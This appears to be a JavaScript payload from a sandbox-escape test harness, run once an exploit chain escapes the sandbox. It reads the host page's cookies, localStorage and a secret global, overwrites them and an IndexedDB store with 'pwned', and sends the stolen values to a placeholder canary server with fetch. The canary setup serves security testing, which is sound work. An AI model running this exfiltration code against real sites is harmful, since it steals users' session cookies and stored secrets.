// What the chain (chain.py) asks the page to run once it has the page's Function: everything a
// host site keeps, read, overwritten and sent to the canary server. `__CANARY__` is replaced by the
// canary server's origin. Runs only if the sandbox is escaped.
const out = { secret: globalThis.hostSecret, cookie: document.cookie, local: localStorage.getItem('host-secret') };
localStorage.setItem('host-secret', 'pwned');
document.cookie = 'hostsecret=pwned; path=/';
globalThis.hostSecret = 'pwned';
globalThis.l0ChainPwned = true;
document.body.insertAdjacentHTML('beforeend', '<p id="l0-chain-pwned">pwned</p>');
const req = indexedDB.open('host-db');
req.onsuccess = () => {
  const db = req.result;
  try {
    const tx = db.transaction('kv', 'readwrite');
    tx.objectStore('kv').put('pwned', 'secret');
  } catch (e) { /* the store is the host's */ }
};
fetch('__CANARY__/chain?' + encodeURIComponent(JSON.stringify(out)), { mode: 'no-cors' }).catch(() => {});
return out;
